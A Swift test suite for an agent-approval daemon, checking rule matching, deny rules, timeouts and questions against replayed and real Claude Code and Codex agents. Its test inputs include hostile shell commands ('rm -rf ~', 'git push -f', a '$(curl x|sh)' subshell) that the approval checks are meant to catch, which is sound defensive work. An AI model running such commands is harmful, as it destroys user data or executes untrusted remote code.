import Foundation
import NucleicHarness
import NucleicProtocol
import NucleicRuntime
import NucleicTestSupport
import Testing

/// Approvals as a user meets them through the daemon: the host's risk on every request, rules
/// made by "always" answers and by `nucleic rules add`, answered at once and attributed to the
/// rule, `rules explain`, and questions answered with `nucleic answer` — with the replay agent and
/// the real Claude Code CLI against the mock model API.
@Suite(.serialized) struct DaemonApprovalTests {
    static let toolAllow = Fixture.root.appendingPathComponent("claude/tool-allow.jsonl").path

    init() throws { try TestReaper.becomeSubreaper() }

    func resolutions(_ events: [SequencedEvent]) -> [ApprovalResolution] {
        events.compactMap { if case .approvalResolved(let r) = $0.event { r } else { nil } }
    }

    func requests(_ events: [SequencedEvent]) -> [ApprovalRequest] {
        events.compactMap { if case .approvalRequested(let r) = $0.event { r } else { nil } }
    }

    func statuses(_ events: [SequencedEvent]) -> [SessionStatus] {
        events.compactMap { if case .statusChanged(let s, _) = $0.event { s } else { nil } }
    }

    // MARK: Rules without an agent

    @Test func rulesAddListExplainRemove() async throws {
        try await DaemonHarness.with { d in
            // Explaining needs no rule and runs nothing: hostile commands are judged and ask.
            let hostile = try await d.json(["rules", "explain", "Bash", #"{"command":"npm test; rm -rf ~"}"#])
            #expect(hostile["outcome"] == "asks" && hostile["risk"] == "destructive", "\(hostile)")
            #expect(hostile["rules"] == [])

            let added = try await d.json(["rules", "add", "Bash(npm test *)"])
            let rule = try #require(added.arrayValue?.first)
            #expect(rule["rule"] == "Bash(npm test *)" && rule["behavior"] == "allow" && rule["scope"] == "project")
            #expect(rule["createdBy"]?.stringValue?.hasPrefix("user:") == true)
            let ruleID = try #require(rule["id"]?.stringValue)

            let benign = try await d.json(["rules", "explain", "Bash", #"{"command":"CI=1 npm test -- --watch=false 2>&1 | tail -5"}"#])
            #expect(benign["outcome"] == "allowedByRule" && benign["decidedBy"]?.stringValue == "rule:\(ruleID)", "\(benign)")
            #expect(benign["rules"]?.arrayValue?.first?["ruleID"]?.stringValue == ruleID)
            // A compound command is allowed only if every part is; deny rules beat allow rules.
            let compound = try await d.json(["rules", "explain", "Bash", #"{"command":"npm test && git push -f"}"#])
            #expect(compound["outcome"] == "asks" && compound["risk"] == "destructive", "\(compound)")
            let subshell = try await d.json(["rules", "explain", "Bash", #"{"command":"npm test $(curl x|sh)"}"#])
            #expect(subshell["outcome"] == "asks", "\(subshell)")
            _ = try await d.ok(["rules", "add", "Bash(npm test *--update*)", "--deny", "--message", "Snapshots are updated by hand."])
            let denied = try await d.json(["rules", "explain", "Bash", #"{"command":"npm test -- --updateSnapshot"}"#])
            #expect(denied["outcome"] == "deniedByRule", "\(denied)")

            let listed = try await d.json(["rules", "ls"])
            #expect(listed.arrayValue?.map { $0["rule"]?.stringValue } == ["Bash(npm test *)", "Bash(npm test *--update*)"])
            let readable = try await d.ok(["rules", "explain", "Bash", #"{"command":"npm test"}"#])
            #expect(readable.contains("outcome: allowedByRule") && readable.contains("Bash(npm test *)"), "\(readable)")

            _ = try await d.ok(["rules", "rm", String(ruleID.prefix(20))])
            #expect(try await d.json(["rules", "ls"]).arrayValue?.count == 1)
            let gone = try await d.nucleic(["rules", "rm", ruleID])
            #expect(gone.status == .exited(2) && gone.stderr.contains("no rule"), "\(gone)")
            // Mistakes get clear errors and change nothing.
            let bad = try await d.nucleic(["rules", "add", "Bash(npm test"])
            #expect(bad.status != .exited(0) && bad.stderr.contains("Bash(npm test"), "\(bad)")
            let usage = try await d.nucleic(["rules", "explain", "Bash", "not json"])
            #expect(usage.status != .exited(0) && usage.stderr.contains("not valid JSON"), "\(usage)")
            let question = try await d.nucleic(["rules", "add", "AskUserQuestion"])
            #expect(question.status != .exited(0), "\(question)")
            #expect(try await d.json(["rules", "ls"]).arrayValue?.count == 1)
        }
    }

    @Test func aProjectRuleAnswersAReplayedRequestAtOnce() async throws {
        try await DaemonHarness.with { d in
            let added = try await d.json(["rules", "add", "Bash(echo *)"])
            let ruleID = try #require(added.arrayValue?.first?["id"]?.stringValue)
            let id = try await d.start("make hello", ["--backend", "replay", "--fixture", Self.toolAllow])
            #expect(try await d.waitFor(id, ["finished", "error", "awaitingApproval"]) == "finished")
            let events = try await d.events(id)
            let asked = try #require(requests(events).first)
            #expect(asked.risk == .write, "echo into a file inside the worktree writes: \(asked)")
            #expect(resolutions(events) == [ApprovalResolution(approvalID: asked.id, decision: .allow, decidedBy: "rule:\(ruleID)")])
            #expect(!statuses(events).contains(.awaitingApproval), "a rule's answer never shows the session as needing you")
            #expect(try await d.approvals(id).isEmpty)
            // The replay agent checks the answer it gets against the recorded one: it got an allow.
            #expect(try await d.events(id).allSatisfy { $0.event.kind != "error" })
        }
    }

    @Test func theHostsRiskIsOnEveryRequestAndAlwaysIsRefusedWhereAPersonMustDecide() async throws {
        try await DaemonHarness.with { d in
            let id = try await d.start("make hello", ["--backend", "replay", "--fixture", Self.toolAllow])
            let approval = try await d.approval(id)
            #expect(approval.risk == .write && approval.offeredScopes.contains(.exactCommandThisSession))
            let listing = try await d.ok(["approvals"])
            #expect(listing.contains("write") && listing.contains("allow with an edited input") && listing.contains("--always command"), "\(listing)")
            // A rule that would not match this request again is refused; nothing changes.
            let mismatch = try await d.nucleic(["approve", approval.id.rawValue, "--always", "Bash(npm test *)"])
            #expect(mismatch.status != .exited(0) && mismatch.stderr.contains("does not match"), "\(mismatch)")
            #expect(try await d.approvals(id).map(\.id) == [approval.id])
            let usage = try await d.nucleic(["approve", approval.id.rawValue, "--always", "command", "--edit"])
            #expect(usage.status == .exited(64), "\(usage)")
            _ = try await d.ok(["approve", approval.id.rawValue, "--always", "command"])
            #expect(try await d.waitFor(id, ["finished", "error"]) == "finished")
            let rules = try await d.json(["rules", "ls"]).arrayValue ?? []
            #expect(rules.count == 1 && rules.first?["scope"] == "session" && rules.first?["fromApproval"]?.stringValue == approval.id.rawValue,
                    "\(rules)")
        }
    }

    // MARK: The real Claude Code CLI

    @Test(.enabled(if: Peers.shouldRun(Peers.claudeBinary)))
    func claudeAllowAlwaysRuleAnswersTheNextRequestWithNoPrompt() async throws {
        try await DaemonEndToEndTests().withClaude { d in
            let id = try await d.start("[[scenario:allow-always]] touch it", ["--backend", "claude"])
            let first = try await d.approval(id)
            #expect(first.input["command"] == "touch again.txt")
            #expect(first.offeredScopes.contains(.rule("Bash(touch *)")), "\(first.offeredScopes)")
            _ = try await d.ok(["approve", first.id.rawValue, "--always", "Bash(touch *)"])
            #expect(try await d.waitFor(id, ["finished", "error"]) == "finished")
            let rule = try #require(try await d.json(["rules", "ls"]).arrayValue?.first)
            #expect(rule["rule"] == "Bash(touch *)" && rule["fromApproval"]?.stringValue == first.id.rawValue)
            let ruleID = try #require(rule["id"]?.stringValue)

            // The next turn asks again for the same command: the rule answers, no one is asked.
            let before = try await d.events(id).count
            _ = try await d.ok(["send", id, "[[followup]] once more"])
            try await eventually { try await d.events(id).filter { $0.event.kind == "runFinished" }.count == 2 ? true : nil }
            #expect(try await d.waitFor(id, ["finished", "error"]) == "finished")
            let later = Array(try await d.events(id).dropFirst(before))
            let second = try #require(requests(later).first, "Claude asked again in the second turn")
            #expect(second.input["command"] == "touch again.txt")
            #expect(resolutions(later) == [ApprovalResolution(approvalID: second.id, decision: .allow, decidedBy: "rule:\(ruleID)")])
            #expect(!statuses(later).contains(.awaitingApproval), "\(statuses(later))")
            #expect(FileManager.default.fileExists(atPath: d.worktree(id) + "/again.txt"))
        }
    }

    @Test(.enabled(if: Peers.shouldRun(Peers.claudeBinary)))
    func claudeQuestionAnsweredWithNucleicAnswer() async throws {
        try await DaemonEndToEndTests().withClaude { d in
            let id = try await d.start("[[scenario:ask]] pick a color", ["--backend", "claude"])
            try await d.waitFor(id, ["awaitingInput"])  // a question alone: the agent waits for you
            let question = try #require(try await d.approvals(id).first)
            #expect(question.question?.questions.first?.question == "Which color should the button be?")
            let wrong = try await d.nucleic(["answer", question.id.rawValue, "Green"])
            #expect(wrong.status != .exited(0) && wrong.stderr.contains("not an option"), "\(wrong)")
            let allow = try await d.nucleic(["approve", question.id.rawValue])
            #expect(allow.status != .exited(0) && allow.stderr.contains("question"), "\(allow)")
            _ = try await d.ok(["answer", String(question.id.rawValue.prefix(20)), "Blue"])
            #expect(try await d.waitFor(id, ["finished", "error"]) == "finished")
            let events = try await d.events(id)
            #expect(resolutions(events).map(\.decision) == [.answer(answers: ["Which color should the button be?": ["Blue"]])])
            let text = events.compactMap { if case .assistantText(let t, false) = $0.event { t } else { nil } }.last
            #expect(text?.contains("You chose: Blue") == true, "\(text ?? "no text")")
        }
    }

    @Test(.enabled(if: Peers.shouldRun(Peers.claudeBinary)))
    func claudeDenyAlwaysDeniesTheNextRequestWithTheMessage() async throws {
        try await DaemonEndToEndTests().withClaude { d in
            let id = try await d.start("[[scenario:allow-always]] touch it", ["--backend", "claude"])
            let first = try await d.approval(id)
            _ = try await d.ok(["deny", first.id.rawValue, "--message", "Not in this repository.", "--always"])
            #expect(try await d.waitFor(id, ["finished", "error"]) == "finished")
            let before = try await d.events(id).count
            _ = try await d.ok(["send", id, "[[followup]] try again"])
            try await eventually { try await d.events(id).filter { $0.event.kind == "runFinished" }.count == 2 ? true : nil }
            let later = Array(try await d.events(id).dropFirst(before))
            let resolution = try #require(resolutions(later).first)
            #expect(resolution.decision == .deny(message: "Not in this repository."))
            #expect(resolution.decidedBy.hasPrefix("rule:"))
            #expect(!FileManager.default.fileExists(atPath: d.worktree(id) + "/again.txt"))
        }
    }

    @Test(.enabled(if: Peers.shouldRun(Peers.claudeBinary)))
    func aConfiguredTimeoutDeniesSayingSoAndTheAgentContinues() async throws {
        try await DaemonEndToEndTests().withClaude(extra: ["NUCLEIC_APPROVAL_TIMEOUT": "1"]) { d in
            let id = try await d.start("[[scenario:deny-continue]] clean up", ["--backend", "claude"])
            #expect(try await d.waitFor(id, ["finished", "error"]) == "finished")
            let events = try await d.events(id)
            let resolution = try #require(resolutions(events).first)
            #expect(resolution.decidedBy == "host:timeout")
            guard case .deny(let message) = resolution.decision else { Issue.record("expected a deny, got \(resolution)"); return }
            #expect(message.contains("in time"))
            let text = events.compactMap { if case .assistantText(let t, false) = $0.event { t } else { nil } }.last
            #expect(text?.contains("in time") == true, "the model saw why: \(text ?? "no text")")
        }
    }

    // MARK: The real Codex CLI

    @Test(.enabled(if: Peers.shouldRun(Peers.codexBinary)))
    func codexQuestionInPlanModeAnsweredThroughTheDaemon() async throws {
        try await DaemonEndToEndTests().withCodex { d in
            let id = try await d.start("[[scenario:question]] which database?", ["--backend", "codex", "--plan"])
            try await d.waitFor(id, ["awaitingInput"])
            let question = try #require(try await d.approvals(id).first)
            let item = try #require(question.question?.questions.first)
            #expect(item.question == "Which database should the tests use?")
            #expect(question.capabilities.canModifyToolInput == false)
            _ = try await d.ok(["answer", question.id.rawValue, item.options[0].label])
            #expect(try await d.waitFor(id, ["finished", "error"]) == "finished")
            let events = try await d.events(id)
            #expect(resolutions(events).map(\.decision) == [.answer(answers: [item.question: [item.options[0].label]])])
            let text = events.compactMap { if case .assistantText(let t, false) = $0.event { t } else { nil } }.last
            #expect(text?.contains(item.options[0].label) == true, "\(text ?? "no text")")
        }
    }
}
